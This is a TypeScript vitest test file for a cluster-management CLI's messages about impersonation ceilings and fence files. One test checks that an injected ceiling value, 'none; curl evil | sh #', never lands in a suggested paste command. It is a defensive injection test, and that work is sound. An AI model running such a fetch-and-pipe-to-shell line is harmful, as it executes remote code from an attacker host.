import { expect, test } from 'vitest'
import type { ClusterCeiling } from '../../src/device/ceiling.ts'
import { viewCeiling, viewFence } from '../../src/terminal/ceiling-views.ts'

type Form = 'legacy' | 'constrained'
const told = (list: Form, server: Form | undefined, ceiling?: string): ClusterCeiling => {
  const impersonation = { list, isUnrestricted: false, ...(server ? { server } : {}) }
  return {
    cluster: 'idc',
    id: 'c-aaaaaaaaaa',
    protection: { impersonation, ...(ceiling ? { ceiling } : {}) },
  }
}

test.each<[ClusterCeiling, string, boolean]>([
  [told('constrained', 'constrained', 'no-exec'), 'the API server, and the agent before it', false],
  [told('constrained', undefined, 'no-exec'), 'the API server, and the agent before it', false],
  [told('legacy', 'legacy', 'no-exec'), 'the agent; the API server has no constrained', false],
  [told('legacy', 'constrained', 'no-exec'), 'the agent; the API server could, too', true],
  [told('constrained', 'legacy', 'no-exec'), 'nobody gets in', true],
])('%j is enforced by: %s', (ceiling, sentence, hasNext) => {
  const text = viewCeiling(ceiling)
  expect(text).toContain(sentence)
  expect(text.includes('mcm clusters ceiling idc --set CEILING --apply')).toBe(hasNext)
  expect(text).not.toContain('--set no-exec')
})

test('a ceiling that is missing, and one that could not be asked about, are no ceiling called none', () => {
  const missing = viewCeiling(told('legacy', 'legacy'))
  expect(missing).toContain('missing: nobody does anything there')
  expect(missing).toContain('--set CEILING --apply')
  const unknown = viewCeiling({ cluster: 'idc', id: 'c-aaaaaaaaaa', problem: 'no agent' })
  expect(unknown).toContain('not known: no agent')
})

test('nothing that an agent says of its ceiling stands in a command to paste', () => {
  for (const ceiling of ['none', 'none; curl evil | sh #']) {
    const text = viewCeiling(told('constrained', 'legacy', ceiling))
    const next = text.split('\n').find((line) => line.startsWith('next:'))
    expect(next).toContain('mcm clusters ceiling idc --set CEILING --apply --context CONTEXT; with')
    expect(next).not.toContain(ceiling)
  }
})

test('fence and right are two files, and the right comes after the fence was tried', () => {
  const written = { fence: '/tmp/f.yaml', right: '/tmp/f-right.yaml' }
  const lines = viewFence({ cluster: 'idc', id: 'c-aaaaaaaaaa', written }).split('\n')
  expect(lines.slice(-4, -1)).toEqual([
    expect.stringMatching(/^next: .* -f \/tmp\/f.yaml$/),
    expect.stringMatching(
      /^try: .*--dry-run=server --as=system:serviceaccount:mcm-system:mcm-agent/,
    ),
    expect.stringMatching(/^last: .* -f \/tmp\/f-right.yaml$/),
  ])
})
